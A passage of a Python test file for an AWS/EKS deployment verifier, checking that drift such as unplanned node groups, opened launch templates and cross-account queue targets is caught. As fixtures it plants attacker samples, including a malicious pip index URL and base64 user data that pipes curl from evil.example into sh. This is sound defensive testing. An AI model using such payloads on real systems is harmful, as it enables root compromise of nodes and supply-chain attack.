    index = {"name": "PIP_INDEX_URL", "value": "https://pypi.attacker.example/simple", "type": "PLAINTEXT"}
    runner_projects(_on_deploy_runner(lambda p: p["environment"].update(environmentVariables=[index])))
    outcome = one("aws.runner-projects", aws_ctx)
    assert outcome.status == "FAIL"
    assert outcome.evidence == f"{DEPLOY_RUNNER}: environment.environmentVariables set, not planned"


def test_a_runner_project_with_a_second_source_fails(aws_ctx, runner_projects):
    second = {"type": "GITHUB", "location": "https://github.com/attacker/tools.git", "sourceIdentifier": "tools"}
    runner_projects(_on_deploy_runner(lambda p: p.update(secondarySources=[second])))
    outcome = one("aws.runner-projects", aws_ctx)
    assert outcome.status == "FAIL" and outcome.evidence == f"{DEPLOY_RUNNER}: secondarySources set, not planned"


def test_a_deleted_runner_project_fails_as_missing(aws_ctx, runner_projects):
    runner_projects(lambda name, project: project if name != DEPLOY_RUNNER else {**project, "name": "other"})
    outcome = one("aws.runner-projects", aws_ctx)
    assert outcome.status == "FAIL" and outcome.evidence == f"{DEPLOY_RUNNER}: missing"


def test_the_planned_log_groups_encrypted_at_their_retention_pass(aws_ctx, plan):
    outcome = one("aws.log-groups", aws_ctx)
    assert outcome.status == "PASS" and f"{len(plan.of_type(checks.LOG_GROUP))} log group(s) encrypted" in (
        outcome.evidence
    )


def test_a_group_the_agents_made_unencrypted_fails_naming_it(aws_ctx, aws):
    made = f"/aws/containerinsights/{CLUSTER}/prometheus"  # the agent's, under the stack's prefix, never planned
    aws.client("logs").create_log_group(logGroupName=made)
    outcome = one("aws.log-groups", aws_ctx)
    assert outcome.status == "FAIL" and outcome.evidence == f"{made}: not the stack's, not encrypted"
    assert "aws logs delete-log-group" in outcome.fix


def test_a_missing_log_group_and_a_shortened_retention_fail_naming_each(aws_ctx, aws):
    logs = aws.client("logs")
    logs.delete_log_group(logGroupName=f"/aws/containerinsights/{CLUSTER}/host")
    logs.put_retention_policy(logGroupName=f"/aws/eks/{CLUSTER}/cluster", retentionInDays=1)
    outcome = one("aws.log-groups", aws_ctx)
    assert outcome.status == "FAIL"
    assert outcome.evidence == (
        f"/aws/containerinsights/{CLUSTER}/host: missing; /aws/eks/{CLUSTER}/cluster: kept 1, planned 90 days"
    )


def test_a_linked_bucket_that_keeps_its_versions_passes(aws_ctx, plan):
    outcome = one("aws.data-versioning", aws_ctx)
    assert outcome.status == "PASS" and f"{plan.config.fsx.s3.bucket}: versioning Enabled" in outcome.evidence


def test_a_linked_bucket_whose_versioning_was_suspended_fails_naming_the_administrators_command(aws_ctx, aws, plan):
    bucket = plan.config.fsx.s3.bucket
    aws.client("s3").put_bucket_versioning(Bucket=bucket, VersioningConfiguration={"Status": "Suspended"})
    outcome = one("aws.data-versioning", aws_ctx)
    assert outcome.status == "FAIL" and outcome.evidence == f"{bucket}: versioning Suspended"
    assert "put-bucket-versioning" in outcome.fix


def test_the_cluster_at_the_pinned_version_passes(aws_ctx):
    outcome = one("aws.cluster", aws_ctx)
    assert outcome.status == "PASS" and f"{CLUSTER}: ACTIVE, Kubernetes 1.35" in outcome.evidence


def test_a_cluster_at_another_version_than_the_stack_pins_fails_naming_both(aws_ctx, plan):
    aws_ctx.plan = stack_pinning(plan, kubernetes_version="1.36")
    outcome = one("aws.cluster", aws_ctx)
    assert outcome.status == "FAIL" and "Kubernetes 1.35" in outcome.evidence and "pins 1.36" in outcome.evidence


def test_a_cluster_whose_audit_log_was_switched_off_fails_naming_it(aws_ctx, aws):
    # what describe-cluster answers after `aws eks update-cluster-config --logging` switched two types off
    logging = [
        {"types": ["api", "controllerManager", "scheduler"], "enabled": True},
        {"types": ["audit", "authenticator"], "enabled": False},
    ]
    aws.client("eks").update_cluster_config(name=CLUSTER, logging={"clusterLogging": logging})
    outcome = one("aws.cluster", aws_ctx)
    assert outcome.status == "FAIL" and outcome.evidence.endswith("control-plane logs off: audit, authenticator")
    assert "`pulumi refresh` then `pulumi up`" in outcome.fix


def test_a_cluster_that_reports_no_access_config_fails_as_config_map(aws_ctx):
    """CreateCluster's authenticationMode defaults to CONFIG_MAP (botocore's eks service model,
    CreateAccessConfigRequest): a cluster that reports no accessConfig was made before access entries, and its
    aws-auth ConfigMap, which the stack does not manage, decides who administers it."""
    del _moto_cluster().access_config
    outcome = one("aws.cluster", aws_ctx)
    assert outcome.status == "FAIL" and outcome.evidence.endswith("authentication mode CONFIG_MAP (not reported)")


@pytest.fixture
def subnets(aws_ctx):
    """EC2 in a few regions, answered by Stubbers (moto makes a default VPC in each of its 38 regions: 4 s):
    give each region's subnets as DescribeSubnets returns them, or the error code EC2 answers there."""

    def answer(by_region: dict[str, list[dict] | str]) -> None:
        _stubbed(aws_ctx, "ec2").add_response("describe_regions", {"Regions": [{"RegionName": r} for r in by_region]})
        for region, listed in by_region.items():
            stub = _stubbed(aws_ctx, "ec2", region)
            if isinstance(listed, str):
                add_wire_error(stub, "ec2", "describe_subnets", listed, "denied by an organization's policy")
            else:
                stub.add_response("describe_subnets", {"Subnets": listed})

    return answer


def _subnet(name: str, public_ipv4: bool = False, ipv6: bool = False) -> dict:
    return {"SubnetId": name, "MapPublicIpOnLaunch": public_ipv4, "AssignIpv6AddressOnCreation": ipv6}


def test_an_account_with_a_default_vpc_fails_naming_its_subnets_and_the_command(aws_ctx, subnets):
    default_vpc = [_subnet(f"subnet-{z}", public_ipv4=True) for z in "abcd"]
    subnets({REGION: [_subnet("subnet-private")], "eu-west-1": default_vpc})
    outcome = one("aws.public-subnets", aws_ctx)
    assert outcome.status == "FAIL"
    assert outcome.evidence.endswith("(eu-west-1: subnet-a, subnet-b, subnet-c and 1 more)")
    assert "--no-map-public-ip-on-launch" in outcome.fix


def test_a_fresh_accounts_default_vpcs_fail_naming_where_the_delete_of_every_region_is_written(aws_ctx, subnets):
    """A new account has a default VPC in every region: one command per subnet is dozens; the fix names the
    page that deletes them all (a VPC goes only once its gateways and subnets have)."""
    subnets({r: [_subnet(f"subnet-{r}-{z}", public_ipv4=True) for z in "abc"] for r in (REGION, "eu-west-1")})
    outcome = one("aws.public-subnets", aws_ctx)
    assert outcome.status == "FAIL"
    assert 'docs/getting-started.md, "Default VPCs"' in outcome.fix


def test_a_subnet_that_assigns_ipv6_on_creation_fails(aws_ctx, subnets):
    subnets({REGION: [_subnet("subnet-six", ipv6=True)]})
    outcome = one("aws.public-subnets", aws_ctx)
    assert outcome.status == "FAIL" and f"({REGION}: subnet-six)" in outcome.evidence


def test_a_subnet_with_an_ipv6_block_fails_though_it_assigns_no_address_on_creation(aws_ctx, subnets):
    """A launch there that asks for an IPv6 address (RunInstances' Ipv6AddressCount) gets one, and every IPv6
    address is public. NoPublicAddressOnLaunch's key is the IPv4 ask's (ec2:AssociatePublicIpAddress),
    and the ceilings leave CreateVpc with AmazonProvidedIpv6CidrBlock and CreateSubnet with an Ipv6CidrBlock to
    the deploy role (components/delivery.py ADDRESS_OPENINGS)."""
    six = {
        **_subnet("subnet-six"),
        "Ipv6CidrBlockAssociationSet": [
            {
                "AssociationId": "subnet-cidr-assoc-1",
                "Ipv6CidrBlock": "2600:1f16:0:100::/64",
                "Ipv6CidrBlockState": {"State": "associated"},
            }
        ],
    }
    subnets({REGION: [six]})
    outcome = one("aws.public-subnets", aws_ctx)
    assert outcome.status == "FAIL" and f"({REGION}: subnet-six)" in outcome.evidence


def test_a_region_an_organization_policy_closes_is_named_and_the_others_decide(aws_ctx, subnets):
    """An SCP that denies a region refuses the stack's launches there as well as the check's read."""
    subnets({REGION: [_subnet("subnet-private")], "ap-east-1": "UnauthorizedOperation", "eu-west-1": []})
    outcome = one("aws.public-subnets", aws_ctx)
    assert outcome.status == "PASS" and outcome.evidence == (
        "no subnet in the account's 2 region(s) hands out a public address on launch or holds an IPv6 block; "
        "DescribeSubnets refused in ap-east-1"
    )


def test_an_account_whose_subnets_all_stay_private_passes(aws_ctx, subnets):
    subnets({REGION: [_subnet("subnet-private")], "eu-west-1": []})
    assert one("aws.public-subnets", aws_ctx).status == "PASS"


def test_a_cluster_whose_tokens_no_iam_provider_trusts_passes(aws_ctx):
    outcome = one("aws.no-irsa-provider", aws_ctx)
    assert outcome.status == "PASS" and outcome.evidence.endswith(": pods use Pod Identity")


def test_an_iam_provider_for_the_clusters_issuer_fails_naming_it(aws_ctx, aws):
    issuer = aws.client("eks").describe_cluster(name=CLUSTER)["cluster"]["identity"]["oidc"]["issuer"]
    arn = aws.client("iam").create_open_id_connect_provider(
        Url=issuer, ClientIDList=["sts.amazonaws.com"], ThumbprintList=["9" * 40]
    )["OpenIDConnectProviderArn"]
    outcome = one("aws.no-irsa-provider", aws_ctx)
    assert outcome.status == "FAIL" and outcome.evidence == f"{arn} trusts the cluster's service account tokens"
    assert f"delete-open-id-connect-provider --open-id-connect-provider-arn {arn}" in outcome.fix


def test_a_missing_cluster_fails_with_aws_answer(aws_ctx, plan):
    aws_ctx.plan = stack_pinning(plan, stack="staging")
    outcome = one("aws.cluster", aws_ctx)
    assert outcome.status == "FAIL" and "ResourceNotFoundException" in outcome.evidence
    assert "the stack's account's? verify asks the stack's region" in outcome.fix


def test_node_groups_as_planned_pass(aws_ctx):
    outcome = one("aws.node-groups", aws_ctx)
    # the system nodes, the teams' CPU nodes and prod's three pools
    assert outcome.status == "PASS" and "5 node group(s) ACTIVE" in outcome.evidence


def test_a_node_group_resized_by_hand_fails_with_both_sizes(aws_ctx, aws):
    eks = aws.client("eks")
    group = next(g for g in eks.list_nodegroups(clusterName=CLUSTER)["nodegroups"] if g.startswith("gpu-h100-"))
    eks.update_nodegroup_config(
        clusterName=CLUSTER, nodegroupName=group, scalingConfig={"minSize": 0, "maxSize": 4, "desiredSize": 0}
    )
    outcome = one("aws.node-groups", aws_ctx)
    assert outcome.status == "FAIL" and "gpu-h100: min/max 0/4, planned 0/16" in outcome.evidence


def test_a_node_group_without_the_startup_taint_fails(aws_ctx, aws):
    eks = aws.client("eks")
    group = next(g for g in eks.list_nodegroups(clusterName=CLUSTER)["nodegroups"] if g.startswith("gpu-h100-"))
    eks.update_nodegroup_config(
        clusterName=CLUSTER,
        nodegroupName=group,
        taints={"removeTaints": [{"key": names.STARTUP_TAINT_KEY, "value": "pending", "effect": "NO_SCHEDULE"}]},
    )
    outcome = one("aws.node-groups", aws_ctx)
    assert outcome.status == "FAIL" and f"gpu-h100: without taint {names.STARTUP_TAINT_KEY}" in outcome.evidence


def test_a_group_whose_name_extends_a_pools_is_not_taken_for_it(aws_ctx, aws):
    eks = aws.client("eks")
    group = next(g for g in eks.list_nodegroups(clusterName=CLUSTER)["nodegroups"] if g.startswith("gpu-h100-"))
    eks.delete_nodegroup(clusterName=CLUSTER, nodegroupName=group)
    eks.create_nodegroup(
        clusterName=CLUSTER, nodegroupName="gpu-h100-odcr-9f8e7d6", nodeRole=NODE_ROLE, subnets=["subnet-1"]
    )
    outcome = one("aws.node-groups", aws_ctx)
    assert outcome.status == "FAIL" and "gpu-h100: missing" in outcome.evidence


# A role the deploy role may create (higgsfield-prod-*, bounded) with a trust of its choosing, here another account's.
FRONT_ROLE = "arn:aws:iam::123456789012:role/higgsfield-prod-front"
OTHER_ACCOUNT = "arn:aws:iam::111122223333:root"


def test_a_node_group_the_plan_does_not_make_fails_naming_it_and_its_role(aws_ctx, aws):
    """The deploy role may add a group to the stack's cluster (IAM has no key on CreateNodegroup's nodeRole); EKS enters
    its role as a node."""
    aws.client("eks").create_nodegroup(clusterName=CLUSTER, nodegroupName="front", nodeRole=FRONT_ROLE, subnets=["s"])
    outcome = one("aws.node-groups", aws_ctx)
    assert outcome.status == "FAIL"
    assert f"front: a node group the plan does not make, on node role {FRONT_ROLE}" in outcome.evidence
    assert f"aws eks delete-nodegroup --cluster-name {CLUSTER} --nodegroup-name GROUP" in outcome.fix


def test_a_second_group_of_a_planned_name_on_another_role_fails_naming_both_roles(aws_ctx, aws):
    """A group named as Pulumi names a pool's (NAME-xxxxxxx) is no less the attacker's: two of one planned name, and
    the planned groups on two roles, are both said."""
    aws.client("eks").create_nodegroup(
        clusterName=CLUSTER, nodegroupName="gpu-h100-0f0f0f0", nodeRole=FRONT_ROLE, subnets=["s"]
    )
    outcome = one("aws.node-groups", aws_ctx)
    assert outcome.status == "FAIL" and "gpu-h100: 2 groups (" in outcome.evidence
    assert "on 2 node roles" in outcome.evidence and f"gpu-h100-0f0f0f0 on {FRONT_ROLE}" in outcome.evidence


def _new_template_version(aws, group: str, **data) -> str:
    """What the deploy role's policies allow it (policies/iam_evaluation.py) on a planned group: a new version of the
    stack's own launch template (CreateLaunchTemplateVersion) and the group moved to it (UpdateNodegroupVersion, which
    moto does not keep: set on its group). The version's number."""
    live = aws.client("eks").describe_nodegroup(clusterName=CLUSTER, nodegroupName=f"{group}-1a2b3c4")["nodegroup"]
    template = live["launchTemplate"]["id"]
    made = aws.client("ec2").create_launch_template_version(
        LaunchTemplateId=template, SourceVersion="1", LaunchTemplateData=data
    )["LaunchTemplateVersion"]
    version = str(made["VersionNumber"])
    _moto_cluster().nodegroups[f"{group}-1a2b3c4"].launch_template = {"id": template, "version": version}
    return version


def test_a_planned_group_moved_to_a_template_version_of_other_user_data_fails_naming_it(aws_ctx, aws):
    """User data runs as root on every node the group launches: an outsider's SSH key or agent is one line of it."""
    version = _new_template_version(
        aws, "gpu-h100", UserData="IyEvYmluL3NoCmN1cmwgaHR0cHM6Ly9ldmlsLmV4YW1wbGUgfCBzaA=="
    )
    outcome = one("aws.node-groups", aws_ctx)
    assert outcome.status == "FAIL" and f"version {version}: its user data is not the plan's" in outcome.evidence
    assert outcome.evidence.startswith("gpu-h100: launch template lt-")


@pytest.mark.parametrize(
    ("data", "said"),
    [
        ({"KeyName": "outsider"}, "KeyName outsider, the plan sets none"),
        ({"ImageId": "ami-0badc0de"}, "ImageId ami-0badc0de, the plan sets none"),
        ({"NetworkInterfaces": [{"DeviceIndex": 0, "AssociatePublicIpAddress": True}]}, "asks for a public address"),
        ({"MetadataOptions": {"HttpTokens": "optional"}}, "IMDSv1 allowed"),
    ],
    ids=["key-pair", "own-ami", "public-address", "imds-v1"],
)
def test_a_planned_group_moved_to_a_template_version_that_opens_its_nodes_fails_naming_what(aws_ctx, aws, data, said):
    _new_template_version(aws, "system-nodes", **data)
    outcome = one("aws.node-groups", aws_ctx)
    assert outcome.status == "FAIL" and said in outcome.evidence


def test_a_planned_group_remade_without_its_launch_template_and_with_an_ssh_key_fails_naming_both(aws_ctx, aws):
    """Without a launch template, CreateNodegroup takes remoteAccess: EKS opens port 22 to the key's holder."""
    eks, name = aws.client("eks"), "gpu-h100-1a2b3c4"
    planned = eks.describe_nodegroup(clusterName=CLUSTER, nodegroupName=name)["nodegroup"]
    eks.delete_nodegroup(clusterName=CLUSTER, nodegroupName=name)
    eks.create_nodegroup(
        clusterName=CLUSTER,
        nodegroupName=name,
        nodeRole=planned["nodeRole"],
        subnets=["subnet-1"],
        scalingConfig=planned["scalingConfig"],
        taints=planned["taints"],
        remoteAccess={"ec2SshKey": "outsider"},
    )
    outcome = one("aws.node-groups", aws_ctx)
    assert outcome.status == "FAIL"
    assert "gpu-h100: remote access (SSH key outsider), the plan gives none" in outcome.evidence
    assert "gpu-h100: launches from no launch template, planned gpu-h100-lt" in outcome.evidence


def test_capacity_block_schedules_on_their_group_pass(aws_ctx):
    assert one("aws.node-groups", aws_ctx).status == "PASS"  # finds the groups the schedules are on
    outcome = one("aws.capacity-schedules", aws_ctx)
    assert outcome.status == "PASS" and "3 scheduled action(s)" in outcome.evidence


def test_a_missing_scheduled_action_fails(aws_ctx, aws):
    one("aws.node-groups", aws_ctx)
    asg = aws_ctx.found["node_groups"]["gpu-h200-block"]["resources"]["autoScalingGroups"][0]["name"]
    aws.client("autoscaling").delete_scheduled_action(AutoScalingGroupName=asg, ScheduledActionName="higgsfield-open")
    outcome = one("aws.capacity-schedules", aws_ctx)
    assert outcome.status == "FAIL" and "gpu-h200-block-open: missing" in outcome.evidence


def _reservations(state: str) -> dict:
    return {
        "CapacityReservations": [
            {"CapacityReservationId": rid, "InstanceType": itype, "State": state, "TotalInstanceCount": 4}
            for rid, itype in (("cr-0a1b2c3d4e5f60718", "p5en.48xlarge"), ("cr-0fedcba9876543210", "p6-b200.48xlarge"))
        ]
    }


def _stubbed_ec2(aws_ctx, answer: dict | None = None, code: str | None = None) -> Stubber:
    stub = _stubbed(aws_ctx, "ec2")
    if code:
        add_wire_error(stub, "ec2", "describe_capacity_reservations", code, "not found")
    else:
        stub.add_response("describe_capacity_reservations", answer)
    return stub


def test_live_reservations_of_the_pools_type_pass(aws_ctx):
    _stubbed_ec2(aws_ctx, _reservations("active"))
    outcome = one("aws.reservations", aws_ctx)
    assert outcome.status == "PASS" and "b200-odcr: active p6-b200.48xlarge x4" in outcome.evidence


def test_an_expired_reservation_fails(aws_ctx):
    _stubbed_ec2(aws_ctx, _reservations("expired"))
    outcome = one("aws.reservations", aws_ctx)
    assert outcome.status == "FAIL" and "b200-odcr: expired" in outcome.evidence and "reservationId" in outcome.fix


def test_a_reservation_aws_does_not_know_fails_with_its_code(aws_ctx):
    _stubbed_ec2(aws_ctx, code="InvalidCapacityReservationId.NotFound")
    outcome = one("aws.reservations", aws_ctx)
    assert outcome.status == "FAIL" and "InvalidCapacityReservationId.NotFound" in outcome.evidence


def test_access_denied_names_the_iam_action_to_allow(aws_ctx):
    def denied(**_):  # EC2's code, from the EC2 API reference's error codes (not in botocore's model)
        raise connect.aws_errors.ClientError(
            {"Error": {"Code": "UnauthorizedOperation", "Message": "You are not authorized"}},
            "DescribeCapacityReservations",
        )

    aws_ctx.clients["ec2"] = types.SimpleNamespace(describe_capacity_reservations=denied)
    outcome = one("aws.reservations", aws_ctx)
    assert outcome.status == "FAIL" and outcome.fix == "allow the caller: ec2:DescribeCapacityReservations"


def _log(aws, record: dict) -> None:
    logs = aws.client("logs")
    group = f"/aws/containerinsights/{CLUSTER}/application"  # made by the deploy (deployed_account)
    logs.create_log_stream(logGroupName=group, logStreamName="ip-10-0-1-5-application")
    logs.put_log_events(
        logGroupName=group,
        logStreamName="ip-10-0-1-5-application",
        logEvents=[{"timestamp": int(NOW.timestamp() * 1000), "message": json.dumps(record)}],
    )


def test_log_records_with_job_replica_and_node_pass(aws_ctx, aws):
    labels = {names.JOB_NAME_LABEL: "pytorch-ddp-h100", names.REPLICA_TYPE_LABEL: "worker"}
    _log(aws, {"log": "step 1", "kubernetes": {"host": "ip-10-0-1-5", "labels": labels}})
    outcome = one("aws.container-logs", aws_ctx)
    assert outcome.status == "PASS" and "job pytorch-ddp-h100, replica worker, node ip-10-0-1-5" in outcome.evidence


def test_log_records_without_the_replica_fail(aws_ctx, aws):
    _log(aws, {"log": "step 1", "kubernetes": {"host": "n", "labels": {names.JOB_NAME_LABEL: "j"}}})
    outcome = one("aws.container-logs", aws_ctx)
    assert outcome.status == "FAIL" and "Labels On" in outcome.fix


def test_logs_before_any_job_skip(aws_ctx, aws):
    _log(aws, {"log": "system pod", "kubernetes": {"host": "n"}})
    assert one("aws.container-logs", aws_ctx).status == "SKIP"


def _with_karpenter(ctx) -> None:
    """The stack as if its first GPU pool were `provisioner: karpenter`."""
    pools = list(ctx.config.gpu_pools)
    pools[0] = pools[0].model_copy(update={"provisioner": "karpenter"})
    ctx.plan = stack_pinning(ctx.plan, gpu_pools=tuple(pools))


def _interruption_queue(aws, policy: str | None = None) -> str:
    """The queue the first deploy makes (components/karpenter.py), with its policy or `policy`."""
    account = aws.client("sts").get_caller_identity()["Account"]
    name = names.interruption_queue(STACK)
    arn = f"arn:aws:sqs:{REGION}:{account}:{name}"
    aws.client("sqs").create_queue(QueueName=name, Attributes={"Policy": policy or queue_policy(arn, STACK)})
    return arn


def test_a_stack_without_a_karpenter_pool_skips_the_queue_check(aws_ctx):
    assert one("aws.karpenter-queue", aws_ctx).status == "SKIP"


def test_the_interruption_queue_with_the_stacks_policy_passes(aws_ctx, aws):
    _with_karpenter(aws_ctx)
    _interruption_queue(aws)
    outcome = one("aws.karpenter-queue", aws_ctx)
    assert outcome.status == "PASS" and "EventBridge sends for the stack's rules alone" in outcome.evidence
    assert "not run as higgsfield-prod-deploy" in outcome.evidence


def test_an_interruption_queue_that_lets_another_account_send_fails(aws_ctx, aws):
    _with_karpenter(aws_ctx)
    account = aws.client("sts").get_caller_identity()["Account"]
    arn = f"arn:aws:sqs:{REGION}:{account}:{names.interruption_queue(STACK)}"
    opened = json.loads(queue_policy(arn, STACK))
    opened["Statement"].append(
        {"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::999999999999:root"}, "Action": "sqs:*", "Resource": arn}
    )
    _interruption_queue(aws, json.dumps(opened))
    outcome = one("aws.karpenter-queue", aws_ctx)
    assert outcome.status == "FAIL" and "999999999999" in outcome.evidence
    assert (
        "pulumi up --stack prod --refresh --policy-pack policies --policy-pack-config policies/config/prod.json"
        in outcome.fix
    )


@pytest.fixture(scope="module")
def karpenter_plan(tmp_path_factory):
    """The prod stack's plan with its first GPU pool `provisioner: karpenter`: its interruption queue and rules."""
    from tests.conftest import with_a_karpenter_pool

    return with_a_karpenter_pool(tmp_path_factory.mktemp("karpenter"), STACK)


@pytest.fixture
def karpenter_rules(aws_ctx, aws, karpenter_plan):
    """The interruption rules as the first deploy of a Karpenter pool leaves them (moto): each targets the stack's
    queue by its ARN alone. Returns the queue's ARN."""
    aws_ctx.plan = karpenter_plan
    queue = _interruption_queue(aws)
    events = aws.client("events")
    for rule in karpenter_plan.of_type(checks.EVENT_RULE):
        events.put_rule(Name=rule.inputs["name"], EventPattern=rule.inputs["eventPattern"])
        events.put_targets(Rule=rule.inputs["name"], Targets=[{"Id": "queue", "Arn": queue}])
    return queue


SPOT_RULE = names.interruption_rule(STACK, "spot")
ELSEWHERE = "arn:aws:sqs:us-east-2:999999999999:collected"  # another account's queue


def test_a_stack_without_a_karpenter_pool_skips_the_rules_check(aws_ctx):
    outcome = one("aws.karpenter-rules", aws_ctx)
    assert outcome.status == "SKIP" and "no `provisioner: karpenter` pool" in outcome.evidence


def test_interruption_rules_that_send_to_the_stacks_queue_alone_pass(aws_ctx, karpenter_rules):
    outcome = one("aws.karpenter-rules", aws_ctx)
    assert outcome.status == "PASS"
    assert outcome.evidence == f"5 interruption rule(s) send to {karpenter_rules} alone, as planned"


def test_a_rules_target_with_another_accounts_dead_letter_queue_fails_naming_it(aws_ctx, aws, karpenter_rules):
    target = {"Id": "queue", "Arn": karpenter_rules, "DeadLetterConfig": {"Arn": ELSEWHERE}}
    aws.client("events").put_targets(Rule=SPOT_RULE, Targets=[target])
    outcome = one("aws.karpenter-rules", aws_ctx)
    assert outcome.status == "FAIL"
    assert outcome.evidence == f"{SPOT_RULE}: target queue sets DeadLetterConfig, not planned"
    assert "`pulumi refresh` then `pulumi up`" in outcome.fix


def test_a_second_target_in_another_account_fails_naming_it(aws_ctx, aws, karpenter_rules):
    aws.client("events").put_targets(Rule=SPOT_RULE, Targets=[{"Id": "out", "Arn": ELSEWHERE}])
    outcome = one("aws.karpenter-rules", aws_ctx)
    assert outcome.status == "FAIL" and outcome.evidence == f"{SPOT_RULE}: target out sends to {ELSEWHERE}"
    assert "aws events remove-targets --rule RULE --ids ID" in outcome.fix


def test_a_rule_whose_target_reads_through_a_role_fails(aws_ctx, aws, karpenter_rules):
    role = "arn:aws:iam::123456789012:role/higgsfield-prod-deploy"
    target = {"Id": "queue", "Arn": karpenter_rules, "RoleArn": role, "InputPath": "$.detail"}
    aws.client("events").put_targets(Rule=SPOT_RULE, Targets=[target])
    outcome = one("aws.karpenter-rules", aws_ctx)
    assert outcome.status == "FAIL"
    assert outcome.evidence == f"{SPOT_RULE}: target queue sets InputPath, RoleArn, not planned"


def test_a_deleted_interruption_rule_fails_as_missing(aws_ctx, aws, karpenter_rules):
    events = aws.client("events")
    events.remove_targets(Rule=SPOT_RULE, Ids=["queue"])
    events.delete_rule(Name=SPOT_RULE)
    outcome = one("aws.karpenter-rules", aws_ctx)
    assert outcome.status == "FAIL" and outcome.evidence == f"{SPOT_RULE}: missing"


def test_a_rule_whose_target_was_removed_fails(aws_ctx, aws, karpenter_rules):
    aws.client("events").remove_targets(Rule=SPOT_RULE, Ids=["queue"])
    outcome = one("aws.karpenter-rules", aws_ctx)
    assert outcome.status == "FAIL" and outcome.evidence == f"{SPOT_RULE}: does not send to {karpenter_rules}"


def _as_the_deploy_role(ctx, aws, refused: bool) -> None:
    """verify run by CI (the deploy role), SetQueueAttributes answered as AWS would: refused, or allowed."""
    ctx.found["identity"] = f"arn:aws:sts::123456789012:assumed-role/{names.role_name(STACK, 'deploy')}/ci"
    sqs = aws.client("sqs")
    ctx.clients["sqs"] = sqs
    if refused:
        stub = Stubber(sqs)
        real = aws.client("sqs")
        url = real.get_queue_url(QueueName=names.interruption_queue(STACK))["QueueUrl"]
        attributes = real.get_queue_attributes(QueueUrl=url, AttributeNames=["Policy", "QueueArn"])
        stub.add_response("get_queue_url", {"QueueUrl": url})
        stub.add_response("get_queue_attributes", attributes)
        add_wire_error(stub, "sqs", "set_queue_attributes", "AccessDenied", "Access to the resource is denied.")
        stub.activate()


def test_the_deploy_role_refused_a_rewrite_of_the_queues_policy_passes(aws_ctx, aws):
    _with_karpenter(aws_ctx)
    _interruption_queue(aws)
    _as_the_deploy_role(aws_ctx, aws, refused=True)
    outcome = one("aws.karpenter-queue", aws_ctx)
    assert outcome.status == "PASS" and "higgsfield-prod-deploy may not rewrite it" in outcome.evidence


def test_the_deploy_role_allowed_to_rewrite_the_queues_policy_fails_naming_bootstrap(aws_ctx, aws):
    """Both ceilings deny SetQueueAttributes (components/delivery.py AdministratorsOnly): an account where the deploy
    role may still call it runs an older deploy policy."""
    _with_karpenter(aws_ctx)
    _interruption_queue(aws)
    _as_the_deploy_role(aws_ctx, aws, refused=False)
    outcome = one("aws.karpenter-queue", aws_ctx)
    assert outcome.status == "FAIL" and "SetQueueAttributes was allowed" in outcome.evidence
    assert "higgsfield bootstrap prod" in outcome.fix


def test_a_deploy_role_that_may_rewrite_the_queues_policy_names_the_administrators_pulumi_up(aws_ctx, aws):
    """`higgsfield bootstrap` only prints steps: the fix names the command that applies the deploy role's policy."""
    _with_karpenter(aws_ctx)
    _interruption_queue(aws)
    _as_the_deploy_role(aws_ctx, aws, refused=False)
    fix = one("aws.karpenter-queue", aws_ctx).fix
    assert f"with administrator credentials: `{names.pulumi_up('prod')}`" in fix


# --- the cluster -----------------------------------------------------------------------------------


def test_the_api_at_the_stacks_version_passes(ctx, cluster):
    outcome = one("kube.api", ctx)
    assert outcome.status == "PASS" and "v1.35.0-eks" in outcome.evidence


def test_a_kubeconfig_on_another_cluster_fails_with_the_update_command(ctx):
    ctx.found["endpoint"] = "https://ABC.gr7.us-east-2.eks.amazonaws.com"
    outcome = one("kube.api", ctx)
    assert outcome.status == "FAIL" and outcome.fix == f"aws eks update-kubeconfig --name {CLUSTER} --region {REGION}"


def test_an_api_at_another_minor_fails(ctx, cluster):
    cluster.version = {"major": "1", "minor": "34+", "gitVersion": "v1.34.2-eks-1"}
    outcome = one("kube.api", ctx)
    assert outcome.status == "FAIL" and "pins 1.35" in outcome.evidence


def test_fresh_leases_pass(ctx):
    outcome = one("kube.leases", ctx)
    assert outcome.status == "PASS" and "Volcano: 2 Leases held" in outcome.evidence


def test_a_lease_not_renewed_fails_with_its_age(ctx, cluster):
    path = "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/cluster-autoscaler"
    lease = cluster.get(path)
    lease["spec"]["renewTime"] = _micro(NOW - datetime.timedelta(minutes=5))
    cluster.put(lease)
    outcome = one("kube.leases", ctx)
    assert (
        outcome.status == "FAIL"
        and "the Cluster Autoscaler (kube-system/cluster-autoscaler): last renewed 300 s" in (outcome.evidence)
    )


def test_a_stack_with_a_karpenter_pool_whose_controller_holds_no_lease_fails(ctx):
    """Karpenter without its Lease launches and repairs nothing: the pool's pods wait for ever."""
    _with_karpenter(ctx)
    outcome = one("kube.leases", ctx)
    assert outcome.status == "FAIL" and "Karpenter: no Lease kube-system/karpenter-leader-election" in outcome.evidence


def test_a_stack_with_a_karpenter_pool_whose_controller_leads_passes(ctx, cluster):
    _with_karpenter(ctx)
    renewed = {"leaseDurationSeconds": 15, "renewTime": _micro(NOW - datetime.timedelta(seconds=3))}
    meta = {"name": "karpenter-leader-election", "namespace": "kube-system"}
    cluster.put(
        {
            "apiVersion": "coordination.k8s.io/v1",
            "kind": "Lease",
            "metadata": meta,
            "spec": {"holderIdentity": "karpenter-1", **renewed},
        }
    )
    outcome = one("kube.leases", ctx)
    assert outcome.status == "PASS" and "Karpenter (kube-system/karpenter-leader-election)" in outcome.evidence


def test_a_missing_operator_lease_fails(ctx, cluster):
    cluster.delete_now(
        "/apis/coordination.k8s.io/v1/namespaces/kubeflow/leases/1ca428e5.training-operator.kubeflow.org"
    )
    outcome = one("kube.leases", ctx)
    assert outcome.status == "FAIL" and "the Training Operator: no Lease" in outcome.evidence


def test_rbac_refusal_fails_naming_the_rights_needed(ctx, cluster):
    cluster.allow = lambda verb, group, resource, namespace: resource != "leases"
    outcome = one("kube.leases", ctx)
    assert (
        outcome.status == "FAIL" and "403 Forbidden" in outcome.evidence and "cannot get resource" in outcome.evidence
    )
    assert outcome.fix.startswith("grant: get/list leases")


def test_cluster_made_objects_with_our_fields_pass(ctx):
    assert one("kube.cluster-made", ctx).status == "PASS"


def test_a_team_default_service_account_mounting_a_token_fails(ctx, cluster):
    sa = cluster.get("/api/v1/namespaces/vision/serviceaccounts/default")
    sa.pop("automountServiceAccountToken")
    cluster.put(sa)
    outcome = one("kube.cluster-made", ctx)
    assert outcome.status == "FAIL" and "vision/default mounts a token" in outcome.evidence


